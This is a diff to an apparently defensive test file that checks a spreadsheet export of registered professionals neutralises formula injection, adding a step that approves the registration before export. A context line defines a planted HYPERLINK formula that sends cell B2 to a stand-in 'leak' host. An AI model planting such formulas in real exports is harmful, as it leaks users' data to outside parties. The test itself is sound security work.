@@ -18,6 +18,9 @@ PLANTED = '=HYPERLINK("http://x.invalid/?leak="&B2,"详情")'
 REGISTER = """mutation($i: ProfessionalRegisterInput!) { professionalRegister(input: $i) {
     ok errors { code field } } }"""
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+QUEUE = """query($k: ReviewKind!) { reviewSteps(kind: $k, first: 10) { edges { node { id } } } }"""
+DECIDE = """mutation($k: ReviewKind!, $id: ID!) {
+    reviewDecide(input: {kind: $k, ids: [$id], approve: true}) { errors { code } } }"""
 
 
 def registration(tree: Any, name: str) -> dict[str, Any]:
@@ -56,6 +59,13 @@ async def test_a_planted_name_is_exported_as_text(
 ) -> None:
     body = await live.data(REGISTER, {"i": registration(tree, "=1+1")})
     assert body["professionalRegister"]["errors"] == []
+    # the person list holds members only (issue 16): the unit approves the registration
+    queue = await live.data(QUEUE, {"k": "PROFESSIONAL_REGISTRATION"}, tokens["hospital1"])
+    step = next(e["node"]["id"] for e in queue["reviewSteps"]["edges"])
+    decided = await live.data(
+        DECIDE, {"k": "PROFESSIONAL_REGISTRATION", "id": step}, tokens["hospital1"]
+    )
+    assert decided["reviewDecide"]["errors"] == []
     headers = {"Authorization": f"Bearer {tokens['jinan']}"}
     response = await live.client.get("/exports/persons.xlsx", headers=headers)
     assert response.status_code == 200
